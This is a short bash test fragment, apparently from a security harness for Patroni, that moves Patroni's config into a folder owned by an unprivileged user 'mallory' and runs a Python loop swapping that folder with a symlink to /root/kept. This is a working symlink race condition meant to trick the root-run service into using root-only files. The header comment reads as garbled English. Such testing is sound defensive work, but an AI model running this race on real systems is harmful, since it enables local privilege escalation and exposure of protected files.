# led-folder: Patroni's configuration is below a folder of mallory, who keeps exchanging it by a link to one of root
# shellcheck shell=bash

intrusion() {
  local node=$1
  inside "$node" sh -c "$inner_site"
  take_over "$node" patroni /srv/site/etc/config.yml
  mallorys "$node" exchange.py <<'PROGRAM'
import os, time

os.chdir("/srv/site")
while True:
    os.rename("etc", "real")
    os.symlink("/root/kept", "etc")
    time.sleep(0.02)
    os.unlink("etc")
    os.rename("real", "etc")
    time.sleep(0.002)
PROGRAM
  mallory_runs "$node" exchange.py
}

# shellcheck disable=SC2016
inner_site='
set -eu
install -d -o mallory -g mallory -m 0755 /srv/site
install -d -o postgres -g postgres -m 0755 /srv/site/etc
mv /etc/patroni/config.yml /srv/site/etc/config.yml
mkdir -p /etc/systemd/system/patroni.service.d
cat >/etc/systemd/system/patroni.service.d/site.conf <<FILE
[Unit]
ConditionPathExists=
ConditionPathExists=/srv/site

[Service]
ExecStart=
ExecStart=/usr/bin/patroni /srv/site/etc/config.yml
FILE
'
